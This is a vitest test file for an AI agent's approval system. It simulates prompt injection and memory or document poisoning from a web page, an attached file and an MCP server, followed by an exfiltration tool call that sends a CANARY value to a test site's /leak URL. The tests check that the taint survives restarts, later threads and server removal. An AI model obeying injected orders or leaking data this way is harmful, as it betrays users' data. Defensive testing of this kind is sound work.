import { expect, onTestFinished, test } from "vitest";
import type { PolicyName } from "../../../protocol/context/policy.ts";
import { attach } from "../../support/attachments/attach.ts";
import { mintId } from "../../support/instance.ts";
import { CANARY, openWorld, ORDER, policyNames, type Plan, type World } from "./world.ts";

type Call = Plan["turns"][number][number];

const start = async (options: Parameters<typeof openWorld>[0] = {}): Promise<World> => {
  const world = await openWorld(options);
  onTestFinished(world.close);
  return world;
};
const plan = (turns: Plan["turns"], more: Partial<Plan> = {}): Plan => ({
  policy: "stone",
  turns,
  approves: [],
  ...more,
});

const readPage = (world: World): Call => ({ name: "scrape_webpage", input: { url: `${world.site.url}/page` } });
const remember: Call = {
  name: "working_memory",
  input: { changes: [{ field: "notes", op: "append", value: ORDER, reason: "r" }] },
};
const leak = (world: World): Call => ({ name: "scrape_webpage", input: { url: `${world.site.url}/leak?d=${CANARY}` } });
const writeDocument: Call = {
  name: "create_entities",
  input: { entities: [{ kind: "document", title: "Plan", body: ORDER }] },
};
const writeFile: Call = { name: "lov-write", input: { file_path: "plan.md", content: ORDER } };
const viewFile: Call = { name: "lov-view", input: { file_path: "plan.md" } };
const hostOf = (world: World): string => new URL(world.site.url).host;

test.each<[string, Call, readonly Call[]]>([
  ["document", writeDocument, []],
  ["file", writeFile, [viewFile]],
])("a poisoned project %s: every later thread of the project asks, also after a restart", async (_, write, look) => {
  const world = await start();
  const projectId = await world.startProject();
  await world.play(plan([[readPage(world), write]]), { projectId });
  const attack = plan([[...look, remember, leak(world)]]);
  const next = await world.play(attack, { projectId });
  expect(next.asked.map(({ asks }) => asks?.code)).toEqual(["remembers", "composed-url"]);
  expect(next.asked[0]?.asks?.text).toContain(`This run has read untrusted content from ${hostOf(world)}`);
  const elsewhere = await world.play(plan([[remember]], { approves: [] }));
  expect(elsewhere.asked).toEqual([]);
  const dataDir = await world.instance.leave();
  const later = await start({ dataDir });
  const nextDay = await later.play(plan([[...look, leak(later)]]), { projectId });
  expect(nextDay.asked.map(({ asks }) => asks?.code)).toEqual(["composed-url"]);
  expect(await later.listEffects()).toEqual(["memory notes"]);
});

test("memory that the user approved is theirs; under a grant it keeps its source, for every later thread", async () => {
  const world = await start();
  const first = await world.play(plan([[readPage(world), remember]], { approves: ["working_memory"] }));
  expect(first.asked).toHaveLength(1);
  const [row] = await world.instance.server.store.read.memory("local");
  expect(row).toMatchObject({ value: ORDER, untrusted: "[]" });
  expect((await world.play(plan([[leak(world)]]))).asked).toEqual([]);
  const more = (value: string): Call => ({
    name: "working_memory",
    input: { changes: [{ field: "interests", op: "append", value, reason: "r" }] },
  });
  const granted = await world.play(
    plan([[readPage(world), more("one"), more("two")]], { approves: ["working_memory"], decision: "thread" }),
  );
  expect(granted.asked).toHaveLength(1);
  const rows = await world.instance.server.store.read.memory("local");
  expect(rows.find(({ field }) => field === "interests")?.untrusted).toContain(hostOf(world));
  expect((await world.play(plan([[leak(world)]]))).asked.map(({ asks }) => asks?.code)).toEqual(["composed-url"]);
});

test.each(policyNames)("under %s a page still counts when it has left the window", async (policy: PolicyName) => {
  const world = await start();
  const turns = [[readPage(world)], ...Array.from({ length: 14 }, () => []), [remember, leak(world)]];
  const { asked, threadId } = await world.play(plan(turns, { policy }));
  expect(asked.map(({ asks }) => asks?.code)).toEqual(["remembers", "composed-url"]);
  const [receipt] = await world.instance.server.store.read.receipts(threadId, 1, null);
  expect(JSON.parse(receipt?.body ?? "{}")).toMatchObject({ untrusted: [hostOf(world)] });
  expect(await world.listEffects()).toEqual([]);
});

test("an edit from before the page leaves it behind, and asks nothing", async () => {
  const world = await start();
  const { threadId } = await world.play(plan([[], [readPage(world)]]));
  const { messages } = await world.instance.client.getThread({ params: { threadId }, query: {} });
  const target = messages.find(({ role }) => role === "user")?.id ?? "";
  const live = world.instance.follow(threadId);
  await live.ended(2);
  await world.instance.client.editMessage({
    params: { threadId, messageId: target },
    body: { id: mintId("message"), text: "another question" },
  });
  await live.ended(3);
  live.close();
  const [receipt] = await world.instance.server.store.read.receipts(threadId, 1, null);
  expect(JSON.parse(receipt?.body ?? "{}")).not.toHaveProperty("untrusted");
});

test("an attached file is a source by its name", async () => {
  const world = await start();
  const { id } = await attach(world.instance.url, { name: "report.txt", bytes: ORDER });
  const { asked } = await world.play(plan([[remember]]), { attachments: [id] });
  expect(asked[0]?.asks?.text).toContain("from the file “report.txt”.");
});

test("an MCP server that is merely configured is no source; its first result is", async () => {
  const world = await start({ withMcp: true });
  const projectId = await world.startProject();
  const clean = await world.play(plan([[{ name: "find_tools", input: { query: "send" } }, remember]]), { projectId });
  expect(clean.asked).toEqual([]);
  expect(clean.ran.map(({ name }) => name)).toEqual(["find_tools", "working_memory"]);
  const read = { name: "mcp__notes__read", input: {} };
  const { asked, threadId } = await world.play(plan([[read, leak(world)]], { approves: ["mcp__notes__read"] }));
  expect(asked.map(({ asks }) => asks?.code)).toEqual(["irreversible", "composed-url"]);
  expect(asked[0]?.asks?.text).not.toContain("untrusted content");
  expect(asked[1]?.asks?.text).toContain("This run has read untrusted content from the MCP server notes.");
  const receipts = await world.instance.server.store.read.receipts(threadId, 9, null);
  expect(receipts.map(({ body }) => (JSON.parse(body) as { untrusted?: unknown }).untrusted).toReversed()).toEqual([
    undefined,
    ["the MCP server notes"],
    ["the MCP server notes"],
  ]);
});

test("a result of an MCP server counts after the server is removed", async () => {
  const world = await start({ withMcp: true });
  const read = { name: "mcp__notes__read", input: {} };
  const first = await world.play(plan([[read]], { approves: ["mcp__notes__read"] }));
  expect(first.asked).toMatchObject([{ asks: { code: "irreversible" } }]);
  expect(first.ran).toHaveLength(1);
  await world.instance.client.removeServer({ params: { server: "notes" } });
  const { asked } = await world.play(plan([[remember]]), { threadId: first.threadId });
  expect(asked[0]?.asks?.text).toContain("untrusted content from the MCP server notes.");
  expect(await world.listEffects()).toEqual([]);
});

test("another MCP server under the same name inherits no grant", async () => {
  const [world, other] = [await start({ withMcp: true }), await start()];
  const send = { name: "mcp__notes__send", input: { text: "hello" } };
  const granted = plan([[send], [send]], { approves: ["mcp__notes__send"], decision: "thread" });
  const { asked, threadId } = await world.play(granted);
  expect(asked).toHaveLength(1);
  expect(countCalls(world)).toBe(2);
  await world.instance.client.removeServer({ params: { server: "notes" } });
  await world.instance.client.addServer({ body: { name: "notes", url: `${other.mcp.url}/mcp` } });
  const again = await world.play(plan([[send]]), { threadId });
  expect(again.asked.map(({ name }) => name)).toEqual(["mcp__notes__send"]);
  expect(countCalls(other)).toBe(0);
});

const countCalls = ({ mcp }: World): number => mcp.asked.filter(({ body }) => body.includes('"tools/call"')).length;
